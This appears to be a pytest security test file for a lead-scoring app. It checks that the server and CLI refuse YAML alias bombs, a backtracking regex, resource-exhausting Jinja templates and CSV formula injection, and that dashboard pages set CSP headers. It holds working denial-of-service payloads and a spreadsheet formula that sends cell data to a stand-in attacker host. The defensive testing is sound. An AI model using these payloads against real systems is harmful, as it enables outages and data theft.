"""Attacks on a running server and on the command line (docs/security.md, "Hostile documents"):
each test sends what an attacker did and holds the defence. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import re
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from tests.conftest import write_csv
from tests.integration.test_tracking import beacon, identify_body
from typer.testing import CliRunner

from qualify.domain.access import Role
from qualify.entrypoints import web
from qualify.entrypoints.api import create_app
from qualify.entrypoints.cli import app
from qualify.service.admin.api_keys import create_key
from qualify.service.unit_of_work import Workspace


def alias_bomb(levels: int = 6) -> str:
    """A "billion laughs" document: each level lists the one before ten times."""
    lines = ["l0: &l0 [" + ", ".join(["lol"] * 10) + "]"]
    for level in range(1, levels + 1):
        lines.append(f"l{level}: &l{level} [" + ", ".join([f"*l{level - 1}"] * 10) + "]")
    return "\n".join(lines) + "\n"


HOSTILE_YAML = {
    "alias bomb": (alias_bomb(), "more than 100,000 values once its aliases are followed"),
    "an alias inside itself": ("name: x\nfit: &a [*a]\n", "an alias refers to the list or mapping that holds it"),
    "500 levels deep": ("name: " + "[" * 500 + "]" * 500 + "\n", "nested more than 64 levels deep"),
}


@pytest.fixture
def api(workspace: Workspace) -> Iterator[tuple[TestClient, dict[str, str]]]:
    with workspace.unit_of_work() as uow:
        token, _ = create_key(uow, "marketing", Role.MARKETING.value)
    with TestClient(create_app(workspace=workspace)) as client:
        yield client, {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("attack", sorted(HOSTILE_YAML))
def test_a_hostile_model_document_is_refused_with_its_place_in_well_under_a_second(
    api: tuple[TestClient, dict[str, str]], attack: str
) -> None:
    client, key = api
    document, reason = HOSTILE_YAML[attack]
    started = time.perf_counter()
    answer = client.post("/v1/models/validate", json={"document": document}, headers=key)
    assert time.perf_counter() - started < 1.0
    assert answer.status_code == 422, answer.text
    problems = answer.json()["problems"]
    assert any(reason in p["message"] and p["line"] for p in problems), problems
    assert client.get("/healthz").status_code == 200


@pytest.mark.parametrize("attack", sorted(HOSTILE_YAML))
def test_a_hostile_import_mapping_is_refused_without_a_traceback(tmp_path: Path, attack: str) -> None:
    document, reason = HOSTILE_YAML[attack]
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(document, encoding="utf-8")
    leads = write_csv(tmp_path / "leads.csv", ["email"], [["ann@acme.com"]])
    db = f"sqlite:///{tmp_path / 'w.db'}"
    assert CliRunner().invoke(app, ["init", "--db", db]).exit_code == 0
    started = time.perf_counter()
    done = CliRunner().invoke(app, ["import", "leads", str(leads), "--mapping", str(mapping), "--db", db])
    assert time.perf_counter() - started < 2.0
    assert done.exit_code == 2, done.output
    assert reason in done.stderr and "Traceback" not in done.output


def test_a_backtracking_regex_cannot_stall_the_server(
    api: tuple[TestClient, dict[str, str]], workspace: Workspace
) -> None:
    """`^([a-z]+)+$` backtracks exponentially in Python's engine: 26 letters and a digit took 5.85 s,
    with /healthz blocked. RE2 matches in linear time."""
    client, key = api
    segment = {"description": "nested quantifiers", "when": [{"field": "first_name", "regex": "^([a-z]+)+$"}]}
    assert client.put("/v1/segments/evil", json=segment, headers=key).status_code == 200
    started = time.perf_counter()
    name = "a" * 27 + "1"  # Python's engine: about 7 s on this machine kind, doubling with each letter
    answer = beacon(client, "identify", identify_body("victim@acme.com", first_name=name))
    assert answer.status_code == 200, answer.text
    assert time.perf_counter() - started < 2.0
    look_around = {"when": [{"field": "first_name", "regex": "^(?!admin)"}]}
    refused = client.put("/v1/segments/peek", json=look_around, headers=key)
    assert refused.status_code == 422
    [problem] = refused.json()["problems"]
    assert problem["field"].endswith("when[0].regex") and "no look-around" in problem["message"]


HOSTILE_TEMPLATES = {
    "a filter building a gigabyte": ('{{ "x"|center(10**9) }}', "the filter center would build more than"),
    "a string method building a gigabyte": ('{{ "x".ljust(10**9) }}', "str.ljust would build more than"),
    "a format width": ('{{ "%0999999999d" % 1 }}', "a width or precision would build more than"),
    "replacing into a gigabyte": (
        '{% set s = "x" * 100000 %}{{ s|replace("x", "y" * 100000) }}',
        "the filter replace would build more than",
    ),
    "doubling a text": (
        "{% macro d(s, n) %}{% if n %}{{ d(s ~ s, n - 1) }}{% endif %}{% endmacro %}{{ d('x', 40) }}",
        "joining texts with ~ would build more than",
    ),
    "nested loops": (
        "Hi\n{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "the template takes more than 100,000 steps",
    ),
    "a macro calling itself twice": (
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(40) }}",
        "the template takes more than 100,000 steps",
    ),
    "a huge output": ('{% for i in range(20000) %}{{ "x" * 100 }}{% endfor %}', "longer than 1,000,000 characters"),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE_TEMPLATES))
def test_a_hostile_email_template_is_stopped_while_it_renders(
    api: tuple[TestClient, dict[str, str]], attack: str
) -> None:
    """`{{ "x"|center(10**9) }}` took the server from 0.15 to 2.09 GB before the output limit was
    checked; nested loops ran for minutes. Limits now hold while the template renders."""
    client, key = api
    source, reason = HOSTILE_TEMPLATES[attack]
    tracemalloc.start()
    started = time.perf_counter()
    try:
        answer = client.put("/v1/templates/evil", json={"subject": "Hello", "text": source}, headers=key)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert answer.status_code == 422, answer.text
    assert reason in answer.json()["detail"] and "text" in answer.json()["detail"], answer.json()
    assert elapsed < 5.0 and peak < 100_000_000, (elapsed, peak)


def test_no_csv_the_product_writes_holds_a_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    """An event id `=HYPERLINK(...)` was written unchanged into `qualify rescore --explain x.csv`."""
    runner, db = CliRunner(), ["--db", f"sqlite:///{tmp_path / 'w.db'}"]
    assert runner.invoke(app, ["init", *db]).exit_code == 0
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
    events = write_csv(
        tmp_path / "events.csv",
        ["event_id", "email", "type", "occurred_at"],
        [
            [formula, "ann@acme.com", "demo_request", "2026-01-05T10:00:00Z"],
            ["@SUM(1+1)", "ann@acme.com", "page_view", "2026-01-06T10:00:00Z"],
            ["e-3", "ann@acme.com", "page_view", "not a time"],
        ],
    )
    # A rejected line that begins with a formula: the rejects file keeps it, quoted.
    leads = tmp_path / "leads.csv"
    leads.write_text('email,title\n"=1+2",Boss\n', encoding="utf-8")
    imported = runner.invoke(app, ["import", "events", str(events), *db, "--json"])
    assert imported.exit_code in (0, 1), imported.output
    rejected = runner.invoke(app, ["import", "leads", str(leads), *db, "--json"])
    assert rejected.exit_code in (0, 1), rejected.output
    explain = tmp_path / "explain.csv"
    out = tmp_path / "scores.csv"
    done = runner.invoke(app, ["rescore", *db, "--explain", str(explain), "--out", str(out)])
    assert done.exit_code == 0, done.output
    written = [explain, out, *tmp_path.glob("*rejects*.csv")]
    assert len(written) >= 4, written
    cells = [cell for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    dangerous = [
        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))
    ]
    assert not dangerous, dangerous
    assert "'" + formula in cells and "'@SUM(1+1)" in cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_dashboard_cannot_be_framed_and_runs_only_its_own_script(workspace: Workspace) -> None:
    with TestClient(create_app(workspace=workspace)) as client:
        for path in ("/app/login", "/app/static/app.js", "/app/funnel"):
            answer = client.get(path, follow_redirects=False)
            policy = answer.headers["content-security-policy"]
            assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy, path
            assert answer.headers["x-frame-options"] == "DENY" and answer.headers["x-content-type-options"] == "nosniff"
        assert "content-security-policy" not in client.get("/healthz").headers  # the API's JSON needs none
    # What the policy would block, the pages must not hold: inline scripts, handlers, style attributes.
    templates = Path(web.__file__).parent / "templates"
    for page in templates.glob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)|\son[a-z]+\s*=|\sstyle\s*=", text), page.name
